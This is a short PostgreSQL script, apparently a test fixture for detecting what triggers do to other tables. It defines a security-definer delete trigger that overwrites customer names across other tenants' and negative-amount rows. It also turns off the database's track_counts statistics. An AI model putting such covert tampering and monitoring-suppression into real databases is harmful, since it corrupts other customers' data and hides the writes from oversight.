-- A server that does not count what is written: what a trigger does to others is seen all the same.
-- over: 1_base

create function app.wipe() returns trigger
language plpgsql security definer
set search_path = pg_catalog, pg_temp
as $$
begin
    update app.slips set customer_name = 'x'
        where slip_no = old.slip_no or amount < 0 or tenant_id <> old.tenant_id;
    return old;
end
$$;
revoke all on function app.wipe() from public;
create trigger wipe before delete on app.slip_events for each row execute function app.wipe();
do $$ begin execute format('alter database %I set track_counts = off', current_database()); end $$;
